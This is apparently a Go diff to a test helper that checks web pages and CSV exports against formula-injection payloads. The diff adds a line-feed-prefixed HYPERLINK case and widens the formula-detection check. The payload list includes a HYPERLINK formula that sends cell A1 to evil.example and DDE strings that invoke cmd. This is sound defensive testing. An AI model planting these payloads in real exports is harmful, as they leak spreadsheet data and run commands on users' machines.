@@ -41,6 +41,9 @@ var Payloads = []Payload{
 	{"formula", `=HYPERLINK("http://evil.example/?"&A1,"xss-6")`},
 	{"dde formula", `+cmd|' /C calc'!A0 xss-7`},
 	{"at formula", `@SUM(1+1)*cmd|' /C calc'!A0 xss-8`},
+	// A CSV writer that ends lines with CRLF writes this leading line
+	// feed as CR LF, so a spreadsheet may see the formula right behind it.
+	{"line feed formula", "\n=HYPERLINK(\"http://evil.example/\",\"xss-9\")"},
 }
 
 // Marker is a payload's unique word, e.g. "xss-2" (or the payload itself
@@ -66,7 +69,11 @@ func HTML(t testing.TB, body string, p Payload) {
 		t.Errorf("%s: the page contains the payload unescaped: %q", p.Name, excerpt(body, p.Raw))
 		return
 	}
-	if !strings.Contains(body, html.EscapeString(p.Raw)) && !strings.Contains(body, templEscape(p.Raw)) {
+	// Text people type is trimmed before it is stored, so the planted
+	// value may come back without its leading line feed.
+	raw, trimmed := p.Raw, strings.TrimSpace(p.Raw)
+	if !strings.Contains(body, html.EscapeString(raw)) && !strings.Contains(body, templEscape(raw)) &&
+		!strings.Contains(body, html.EscapeString(trimmed)) && !strings.Contains(body, templEscape(trimmed)) {
 		t.Errorf("%s: the page does not show the planted value %q at all (was it rendered?)", p.Name, p.Raw)
 	}
 	Markup(t, body)
@@ -142,7 +149,7 @@ func CSV(t testing.TB, body string, p Payload) {
 			if FormulaCell(cell) {
 				t.Errorf("%s: cell %q would run as a formula", p.Name, cell)
 			}
-			if cell == p.Raw || cell == "'"+p.Raw {
+			if t := strings.TrimSpace(p.Raw); cell == p.Raw || cell == "'"+p.Raw || cell == t || cell == "'"+t {
 				found = true
 			}
 		}
@@ -153,10 +160,10 @@ func CSV(t testing.TB, body string, p Payload) {
 }
 
 // FormulaCell reports whether a spreadsheet would read the cell as a
-// formula: it starts with =, +, -, @, a tab or a carriage return and is
-// not a plain number.
+// formula: it starts with =, +, -, @, a tab, a carriage return or a line
+// feed and is not a plain number.
 func FormulaCell(cell string) bool {
-	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number.MatchString(cell)
+	return cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !number.MatchString(cell)
 }
 
 var number = regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)
